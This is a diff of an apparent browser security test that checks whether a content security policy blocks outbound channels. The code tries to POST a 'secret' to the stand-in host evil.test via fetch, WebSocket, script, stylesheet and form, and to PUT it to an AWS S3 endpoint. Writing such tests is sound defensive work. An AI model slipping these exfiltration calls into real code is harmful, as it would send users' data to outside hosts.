@@ -3,10 +3,12 @@
 
 {
   const AWAY = "https://evil.test";
+  /** @type {RequestInit} */
+  const BODY = { method: "POST", mode: "no-cors", body: "secret" };
   /** @type {Record<string, Promise<unknown>>} */
   const attempts = {
-    "another host": fetch(`${AWAY}/fetch`, { method: "POST", mode: "no-cors", body: "secret" }),
-    "another host of AWS": fetch("https://s3.us-east-1.amazonaws.com/", { method: "PUT", mode: "no-cors", body: "secret" }),
+    "another host": fetch(`${AWAY}/fetch`, BODY),
+    "another host of AWS": fetch("https://s3.us-east-1.amazonaws.com/", BODY),
     "a socket": new Promise((resolve, reject) => {
       const socket = new WebSocket("wss://evil.test/socket");
       socket.onopen = resolve;
@@ -25,7 +27,9 @@
     attempts["a style sheet"] = loaded(document.createElement("link"), { rel: "stylesheet", href: `${AWAY}/style` });
     attempts["a script"] = loaded(document.createElement("script"), { src: `${AWAY}/script` });
     attempts["a form"] = new Promise((resolve, reject) => {
-      addEventListener("securitypolicyviolation", (event) => event.effectiveDirective === "form-action" && reject(event));
+      addEventListener("securitypolicyviolation", ({ effectiveDirective }) => {
+        if (effectiveDirective === "form-action") reject(effectiveDirective);
+      });
       addEventListener("pagehide", resolve);
       const form = Object.assign(document.createElement("form"), { method: "post", action: `${AWAY}/form` });
       document.documentElement.append(form);
